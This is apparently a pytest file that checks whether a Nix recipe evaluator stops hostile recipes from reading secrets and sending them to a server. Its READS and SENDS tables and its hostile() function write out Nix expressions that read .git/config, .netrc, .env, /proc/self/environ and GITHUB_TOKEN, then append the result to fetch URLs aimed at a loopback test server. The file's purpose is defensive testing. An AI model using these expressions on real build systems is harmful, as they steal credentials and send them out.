"""A hostile recipe: whatever it tries, nothing of this machine reaches a server while it is evaluated."""

from __future__ import annotations

import http.server
import io
import subprocess
import tarfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.nix.conftest import MINI, torch_recipe
from torchsmith.nix.evaluate import EvalResult, EvaluationOptions, EvaluationRequest, evaluate
from torchsmith.nix.fetch import known
from torchsmith.nix.tool import Nix

pytestmark = pytest.mark.needs("nix")
SECRET = "ghp_0123456789abcdefghij"


@dataclass
class Server:
    """What was asked of a web server on loopback: every path, header and body."""

    address: str = ""
    asked: list[str] = field(default_factory=list)

    @property
    def tarball(self) -> str:
        return f"{self.address}/x.tar.gz"


def _tarball() -> bytes:
    file = io.BytesIO()
    text = b'args: derivation { name = "fetched"; system = "x"; builder = "b"; }'
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        entry = tarfile.TarInfo("nixpkgs/default.nix")
        entry.size = len(text)
        archive.addfile(entry, io.BytesIO(text))
    return file.getvalue()


@pytest.fixture
def server() -> Iterator[Server]:
    found, answer = Server(), _tarball()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            found.asked.append(f"{self.path}\n{self.headers}\n{body!r}")
            self.send_response(200 if self.path == "/x.tar.gz" else 404)
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer if self.command != "HEAD" else b"")

        do_HEAD = do_POST = do_GET

        def log_message(self, *words: object) -> None:
            return

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        found.address = f"http://127.0.0.1:{running.server_address[1]}"
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield found
        running.shutdown()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository with a token in its settings, and more secrets around its recipes."""
    root = tmp_path / "build-pytorch"
    pkgs = root / ".flox/pkgs"
    pkgs.mkdir(parents=True)
    subprocess.run(["git", "-C", root, "init", "-q"], check=True)
    with (root / ".git/config").open("a") as config:
        config.write(f'[remote "origin"]\n\turl = https://{SECRET}@github.com/x/y\n')
    for place in (".netrc", "netrc", ".torchsmith/record", ".env", "token", ".flox/pkgs/.hidden"):
        (root / place).parent.mkdir(exist_ok=True)
        (root / place).write_text(SECRET)
    (tmp_path / "outside.nix").write_text(f'"{SECRET}"')
    (tmp_path / "outside").write_text(SECRET)
    (root / "patch").write_text("harmless")
    (root / "link").symlink_to(root / ".git/config")
    (pkgs / "beside.nix").write_text('"beside"')
    subprocess.run(["git", "-C", root, "add", "patch", "link"], check=True)
    return root


READS = {
    "git": "builtins.readFile ../../.git/config",
    "joined": 'builtins.readFile (../.. + "/.git/config")',
    "text": 'builtins.readFile (toString ../.. + "/.git/config")',
    "link": "builtins.readFile ../../link",
    "netrc": "builtins.readFile ../../netrc",
    "dotnetrc": "builtins.readFile ../../.netrc",
    "record": "builtins.readFile ../../.torchsmith/record",
    "environment file": "builtins.readFile ../../.env",
    "untracked": "builtins.readFile ../../token",
    "hidden": "builtins.readFile ./.hidden",
    "outside": "builtins.readFile ../../../outside",
    "import": "import ../../../outside.nix",
    "path": 'builtins.readFile (builtins.path { path = ../..; name = "x"; } + "/.git/config")',
    "filter": 'builtins.readFile (builtins.filterSource (_: _: true) ../.. + "/.git/config")',
    "copy": 'builtins.readFile ("${../..}" + "/.git/config")',
    "git tree": 'builtins.readFile (builtins.fetchGit ../.. + "/token")',
    "process": "builtins.readFile /proc/self/environ",
    "variable": 'builtins.getEnv "GITHUB_TOKEN"',
}
SENDS = {
    "fetchTarball": "builtins.fetchTarball (U + s)",
    "with a hash": "builtins.fetchTarball { url = U + s; sha256 = Z; }",
    "fetchurl": "builtins.fetchurl (U + s)",
    "fetchGit": "builtins.fetchGit { url = U + s; }",
    "fetchMercurial": "builtins.fetchMercurial { url = U + s; }",
    "another file": 'import (builtins.toFile "x.nix" "a: builtins.fetchurl a") (U + s)',
    "another scope": 'builtins.scopedImport { } (builtins.toFile "x.nix" "a: fetchTarball a") (U + s)',
}


def hostile(server: Server, read: str, send: str, between: str) -> str:
    """A recipe that pins a tarball as others do, then reads a secret and appends it to the same address."""
    return (
        f'let U = "{server.tarball}"; Z = "{"0" * 52}";\n'
        f'  pinned = fetchTarball "{server.tarball}";\n'
        '  clean = builtins.replaceStrings [ "\\n" "\\t" " " "[" "]" ] [ "-" "-" "-" "-" "-" ];\n'
        f'  s = "{between}" + clean ({read});\n'
        'in derivation { name = "x"; system = "x"; builder = "b"; b = "${pinned}"; '
        f'a = "${{{send}}}"; }}\n'
    )


def tried(nix: Nix, repo: Path, recipes: dict[str, str], **more: object) -> dict[str, EvalResult]:
    requests = []
    for number, (name, text) in enumerate(recipes.items()):
        file = repo / ".flox/pkgs" / f"r{number}.nix"
        file.write_text(text)
        requests.append(EvaluationRequest(name, file))
    found = evaluate(requests, nix, EvaluationOptions(instantiate=True, **more))  # type: ignore[arg-type]
    return {one.name: one for one in found}


@pytest.mark.parametrize("named", [True, False], ids=["address named", "address not named"])
def test_no_byte_of_a_secret_leaves_by_evaluating(
    named: bool, nix: Nix, repo: Path, server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    recipes = {
        f"read {name}": hostile(server, read, SENDS["fetchTarball"], "/") for name, read in READS.items()
    }
    literal = f'"{SECRET}"'  # as if it had been read after all
    for name, send in SENDS.items():
        for between in ("/", "?", "#", "", "/../"):
            recipes[f"{name} {between}"] = hostile(server, literal, send, between)
    results = tried(nix, repo, recipes, addresses=[server.tarball] if named else [])
    assert not [name for name, result in results.items() if result.ok]
    assert not [asked for asked in server.asked if SECRET in asked]
    assert {asked.split("\n")[0] for asked in server.asked} == ({"/x.tar.gz"} if named else set())


@pytest.mark.parametrize("read", READS.values(), ids=READS)
def test_no_secret_gets_into_a_derivation(
    read: str, nix: Nix, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    text = f'derivation {{ name = "x"; system = "x"; builder = "b"; a = f ({read}); }}'
    text = f"let f = builtins.unsafeDiscardStringContext; in {text}"
    result = tried(nix, repo, {"one": text})["one"]
    if result.evaluated is not None:  # an empty variable is no error
        assert SECRET not in nix.store_file(result.evaluated.drv_path).read_text()
    else:
        assert result.cause is not None
        assert SECRET not in result.cause.message


def test_a_named_address_is_fetched_whole_and_stands_for_its_content(
    nix: Nix, repo: Path, server: Server
) -> None:
    text = f'import (fetchTarball "{server.tarball}") {{ }}'
    results = tried(nix, repo, {"one": text, "two": f"{text} # again"}, addresses=[server.tarball])
    assert results["one"].evaluated is not None, results["one"].cause
    assert results["one"].evaluated.name == "fetched"
    assert results["two"].ok


def test_an_address_that_nobody_names_is_refused_in_words(nix: Nix, repo: Path, server: Server) -> None:
    result = tried(nix, repo, {"one": f'import (fetchTarball "{server.tarball}") {{ }}'})["one"]
    assert result.cause is not None
    assert server.tarball in result.cause.message
    assert server.asked == []


def test_what_git_tracks_and_what_lies_beside_a_recipe_can_be_read(nix: Nix, repo: Path) -> None:
    body = (
        "pkgs.python3Packages.torch.overrideAttrs (_: "
        "{ pname = builtins.readFile ../../patch + import ./beside.nix;"
        " src = builtins.path { path = ../../patch; }; })"
    )
    result = tried(nix, repo, {"one": torch_recipe(body)}, trees={"default": MINI})["one"]
    assert result.evaluated is not None, result.cause
    assert result.evaluated.facts.pname == "harmlessbeside"


def test_the_settings_of_a_nixpkgs_checkout_cannot_be_read(nix: Nix, repo: Path, tmp_path: Path) -> None:
    tree = tmp_path / "nixpkgs"
    (tree / "lib").mkdir(parents=True)
    (tree / ".git").mkdir()
    (tree / ".git/config").write_text(SECRET)
    (tree / "lib/default.nix").write_text("{ }")
    (tree / "default.nix").write_text('args: derivation { name = args.n; system = "x"; builder = "b"; }')
    recipes = {
        "fine": 'import <nixpkgs> { n = "x"; }',
        "pinned": torch_recipe("pkgs", 'n = "x";'),
        "hostile": "import <nixpkgs> { n = builtins.readFile <nixpkgs/.git/config>; }",
    }
    results = tried(nix, repo, recipes, trees={"default": tree})
    assert results["fine"].ok, results["fine"].cause
    assert results["pinned"].ok, results["pinned"].cause
    assert not results["hostile"].ok


@pytest.mark.parametrize(
    ("url", "fetched"),
    [
        ("https://github.com/NixOS/nixpkgs/archive/" + "0" * 40 + ".tar.gz", True),
        ("https://github.com/nixos/nixpkgs/archive/" + "a" * 40 + ".tar.gz", True),
        ("https://github.com/NixOS/nixpkgs/archive/" + "0" * 39 + ".tar.gz", False),
        ("https://github.com/NixOS/nixpkgs/archive/nixos-25.11.tar.gz", False),
        ("https://github.com/NixOS/nixpkgs/archive/" + "0" * 40 + ".tar.gz?token=x", False),
        ("https://github.com/NixOS/nixpkgs-fork/archive/" + "0" * 40 + ".tar.gz", False),
        ("https://github.com.example.org/NixOS/nixpkgs/archive/" + "0" * 40 + ".tar.gz", False),
        ("http://github.com/NixOS/nixpkgs/archive/" + "0" * 40 + ".tar.gz", False),
    ],
)
def test_any_whole_revision_of_nixpkgs_is_fetched_and_nothing_that_looks_like_it(
    url: str, fetched: bool
) -> None:
    assert known(url, ()) is fetched
